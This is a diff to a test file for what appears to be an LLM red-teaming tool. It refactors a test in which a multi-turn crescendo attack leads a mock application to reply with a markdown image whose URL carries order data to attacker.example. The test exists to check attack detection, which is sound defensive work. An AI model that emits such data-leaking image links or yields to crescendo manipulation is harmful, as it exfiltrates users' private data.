@@ -23,6 +23,7 @@ from promptum.redteam import (
 )
 from promptum.redteam._data import data
 from promptum.suites import generate_suite, load_suite
+from tests.support.suites import attacked_suite
 
 TOOLS = [
     {
@@ -201,18 +202,8 @@ def test_a_crescendo_runs_as_a_conversation_and_counts_as_an_attack(
         # The application gives in on its third reply: an image carrying data.
         app.queue(Reply.ok("Hello!"), Reply.ok("I like pictures."))
         app.default = Reply.ok("Sure: ![x](https://attacker.example/p.png?d=order+123)")
-        (tmp_path / "suite.yaml").write_text(
-            f"""\
-models: [app/m]
-endpoints:
-  app: {{base_url: "{app.base_url}"}}
-  red: {{base_url: "{red.base_url}"}}
-system: You help customers.
-test_cases: [{{id: hello, query: Hello?}}]
-redteam: {{goals: [exfiltration], strategies: [crescendo], attacker: red/m, per_goal: 1}}
-""",
-            encoding="utf-8",
-        )
+        redteam = "{goals: [exfiltration], strategies: [crescendo], attacker: red/m, per_goal: 1}"
+        attacked_suite(tmp_path / "suite.yaml", app.base_url, red.base_url, redteam)
         runner = CliRunner()
         done = runner.invoke(main, ["redteam", "generate", "suite.yaml", "-o", "attacks.yaml"])
         assert done.exit_code == 0, done.output
